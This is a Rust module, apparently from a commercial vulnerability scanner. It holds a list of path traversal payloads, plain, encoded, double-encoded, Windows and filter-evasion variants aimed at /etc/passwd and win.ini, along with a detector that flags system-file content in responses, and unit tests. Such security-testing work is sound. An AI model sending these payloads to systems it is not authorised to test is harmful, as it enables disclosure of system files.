// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Path Traversal Attack Class
 * Traversal payloads (plain, encoded, windows) with system-file markers
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use super::Detection;

/// Unix, windows, double-encoded and filter-evasion traversal variants
pub const PAYLOADS: &[&str] = &[
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "file:///etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "/var/www/../../etc/passwd",
    "C:\\..\\..\\windows\\win.ini",
    "..;/..;/..;/etc/passwd",
    "..//..//..//etc/passwd",
];

/// Content markers of disclosed system files
const FILE_MARKERS: &[&str] = &[
    "root:x:", "daemon:", "bin:", "[boot loader]",
    "[fonts]", "[extensions]", "for 16-bit app support",
];

pub fn detect(body: &str) -> Option<Detection> {
    for marker in FILE_MARKERS {
        if body.contains(marker) {
            return Some(Detection {
                technique: "File disclosure",
                evidence: format!("System file accessed: {}", marker),
                confidence: 95,
                literal: true,
            });
        }
    }

    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_passwd_disclosure() {
        let body = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:";
        let detection = detect(body).unwrap();
        assert!(detection.evidence.contains("root:x:"));
        assert_eq!(detection.confidence, 95);
    }

    #[test]
    fn test_win_ini_disclosure() {
        let body = "; for 16-bit app support\n[fonts]\n[extensions]";
        assert!(detect(body).is_some());
    }

    #[test]
    fn test_clean_response_is_benign() {
        assert!(detect("<html>File not found</html>").is_none());
    }
}
